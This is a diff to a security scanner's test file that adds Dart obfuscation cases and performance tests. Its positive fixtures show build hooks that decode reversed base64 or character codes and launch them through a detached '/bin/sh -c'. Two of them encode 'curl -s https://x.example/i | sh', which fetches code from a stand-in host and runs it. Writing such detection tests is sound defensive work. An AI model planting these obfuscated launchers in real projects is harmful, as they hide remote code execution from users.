@@ -1,4 +1,6 @@
 import { describeRuleCases, findingsOf, js, py, sh } from './rule-cases.helper.js';
+import { dartDecodedShell } from '../analyzers/dart-flow.js';
+import type { Segment } from '../rule.types.js';
 
 describeRuleCases('obfuscation', [
   {
@@ -465,6 +467,91 @@ describe('adversarial PHP decoded evals', () => {
   it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
     const start = performance.now();
     findingsOf(text, 'x.php');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
+const DART_HEAD = "import 'dart:convert';\nimport 'dart:io';\n\n";
+
+describeRuleCases('obfuscation (Dart)', [
+  {
+    // A build hook decoding a reversed base64 command and handing it to `/bin/sh -c`, detached.
+    id: 'SG-OBFUSC-120',
+    file: 'hook/build.dart',
+    positive:
+      DART_HEAD +
+      "const _blob = 'ZWNobyBoaQ==';\n\nString _resolve(String s) =>\n    utf8.decode(base64.decode(String.fromCharCodes(s.runes.toList().reversed)));\n\nFuture<void> main(List<String> args) async {\n  await Process.start('/bin/sh', ['-c', _resolve(_blob)],\n      mode: ProcessStartMode.detached);\n}\n",
+    // Assets kept as base64, `flutter pub get`, a literal shell command and one built from arguments.
+    negative:
+      DART_HEAD +
+      "Future<void> main(List<String> args) async {\n  final icon = base64Decode(File('assets/icon.b64').readAsStringSync());\n  File('assets/icon.png').writeAsBytesSync(icon);\n  await Process.run('flutter', ['pub', 'get']);\n  await Process.run('sh', ['-c', 'flutter build apk --flavor prod']);\n  final cmd = args.join(' ');\n  await Process.run('bash', ['-c', cmd]);\n}\n",
+  },
+  {
+    // The shell and its flag built from character codes, the command from a function that decodes.
+    id: 'SG-OBFUSC-120',
+    file: 'tool/warm_cache.dart',
+    positive:
+      DART_HEAD +
+      'String _manifest() {\n  final fixed = String.fromCharCodes(_pieces.join().codeUnits.reversed);\n  return utf8.decode(base64.decode(fixed));\n}\n\nFuture<void> _register() async {\n  final sh = String.fromCharCodes([47, 98, 105, 110, 47, 115, 104]);\n  final flag = String.fromCharCodes([45, 99]);\n  await Process.start(sh, [flag, _manifest()], mode: ProcessStartMode.detached);\n}\n',
+    // A program named by the caller, and the same decoding call written out in a comment.
+    negative:
+      DART_HEAD +
+      "// await Process.start('/bin/sh', ['-c', utf8.decode(base64.decode(blob))]);\n/* Process.start(sh, [flag, _manifest()]) */\nFuture<void> run(String exe, List<String> args) async {\n  final banner = utf8.decode(base64.decode(_banner));\n  print(banner);\n  await Process.run(exe, args);\n}\n",
+  },
+  {
+    // A Dart string read backwards, then base64: the decoded command is read like any other.
+    id: 'SG-OBFUSC-008',
+    file: 'tool/setup.dart',
+    positive:
+      DART_HEAD +
+      "const _s = '=g2cgwHIp9SZsBXbhhXZug3LvozcwRHdoByctACbyV3Y';\nfinal cmd = utf8.decode(base64.decode(_s.split('').reversed.join()));\n",
+    // A list reversed for display: string literals are not read backwards.
+    negative:
+      DART_HEAD +
+      "const _s = '=g2cgwHIp9SZsBXbhhXZug3LvozcwRHdoByctACbyV3Y';\nfinal recent = history.reversed.toList();\n",
+  },
+  {
+    // Character codes in a Dart list (`String.fromCharCodes([...])`) decode to the command they spell.
+    id: 'SG-OBFUSC-008',
+    file: 'tool/setup.dart',
+    positive:
+      DART_HEAD +
+      'final cmd = String.fromCharCodes(<int>[99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 105, 32, 124, 32, 115, 104,]);\n',
+    negative: DART_HEAD + 'final sep = String.fromCharCodes([45, 45]);\n',
+  },
+]);
+
+describe('adversarial Dart decoded shells', () => {
+  const MiB = 1024 * 1024;
+  // Launches whose command and program are names the rule then looks up through the file.
+  const head = "Process.start('/bin/sh', ['-c', a]); Process.start(b, [c, d]); base64.decode(y);\n";
+  const cases: [string, string][] = [
+    ['process calls without a close', head + "Process.start('sh', [ ".repeat(MiB / 22)],
+    ['assignments without a semicolon', head + 'a = b '.repeat(MiB / 6)],
+    ['chained assignments', head + Array.from({ length: MiB / 16 }, (_, i) => `a = n${i}; `).join('')],
+    ['calls without a close', head + 'a( b( '.repeat(MiB / 6)],
+    ['function bodies without a close', head + 'a() { b() { '.repeat(MiB / 12)],
+    ['char-code lists', head + 'String.fromCharCodes([1, 2, 3, 4, 5, 6 '.repeat(MiB / 40)],
+    ['reversed strings', head + "s.runes.toList().reversed 'abcd' ".repeat(MiB / 33)],
+  ];
+  it.each(cases)('should read 1 MiB of %s in under 200 ms', (_name, text) => {
+    const seg: Segment = {
+      file: 'tool/x.dart',
+      kind: 'code',
+      lang: 'other',
+      text,
+      line: 1,
+      block: 'x',
+      depth: 0,
+    };
+    const start = performance.now();
+    dartDecodedShell([seg]);
+    expect(performance.now() - start).toBeLessThan(200);
+  });
+  it('should scan a 1 MiB Dart file of launches and assignments in under a second', () => {
+    const text = head + "final a = b; Process.start('sh', ['-c', a]); ".repeat(MiB / 44);
+    const start = performance.now();
+    findingsOf(text, 'tool/x.dart');
     expect(performance.now() - start).toBeLessThan(1000);
   });
 });
